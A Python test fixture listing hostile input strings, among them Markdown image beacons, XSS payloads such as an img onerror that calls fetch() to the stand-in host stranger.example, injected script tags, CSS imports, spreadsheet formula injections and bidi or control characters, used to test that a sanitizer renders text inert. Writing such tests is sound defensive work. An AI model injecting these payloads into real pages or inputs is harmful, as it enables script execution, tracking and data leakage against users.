"""Texts of strangers: each tries to call a server, to lead readers there, or to look like something
else. All tests use this list: those of the function that makes texts inert, and those of the
pages."""

HOST = "stranger.example"
"""The strangers' host; nothing may send a request or a reader there."""

TEXTS = (
    f"![x](http://{HOST}/image.png)",
    f"[our settings](http://{HOST}/link)",
    f"<http://{HOST}/angle>",
    f"http://{HOST}/bare",
    f"see HTTPS://{HOST}/loud and www.{HOST}/www",
    f"someone@{HOST}",
    f"[ref]: http://{HOST}/reference",
    f'<img src="http://{HOST}/tag.png" onerror="fetch(`http://{HOST}/error`)">',
    f'"><script src="http://{HOST}/script.js"></script>',
    f"' onmouseover='location=`http://{HOST}/mouse`' x='",
    f'<a href="http://{HOST}/anchor">definitions</a>',
    f"<svg><image href=http://{HOST}/svg.png></svg>",
    f"<style>@import url(http://{HOST}/style.css)</style>",
    f"](x) ![y](//{HOST}/closing.png)",
    f"` ``![x](http://{HOST}/ticks.png)`` `",
    f"**bold** *slanted* ~~gone~~ `code` __under__ _score_ http://{HOST}/mixed",
    "$\\frac{1}{2}$ and $$x^2$$ cost $5 or $6",
    ":red[red] :material/home: :material_home: :smile: :streamlit: :help[x] :a :b{c=d}",
    "# heading",
    "> quote",
    "- entry",
    "+ entry",
    "1. entry",
    "2) entry",
    "---",
    "===",
    "***",
    "| a | b | --- | --- |",
    "a -> b <- c -- d >= e ~= f",
    "&lt;b&gt; &amp; &#60;i&#62; &copy;",
    "\\*backslash\\* \\![x](y)",
    "%{x} %{customdata} {} {0} %s",
    "=HYPERLINK(1)",
    "+1",
    "-1",
    "@sum",
)
"""Texts of one line with visible characters only."""

ODD = (
    f"two\nlines\n\n# and a heading\n\n![x](http://{HOST}/second-line.png)",
    f"\u202ebackwards http://{HOST}/bidi\u202c",
    "nothing\x00here\x1b[31m",
    "half a character \ud800",
    f"\t    ![x](http://{HOST}/indented.png)\r\n",
)
"""Texts with invisible characters, or characters that cannot be sent."""
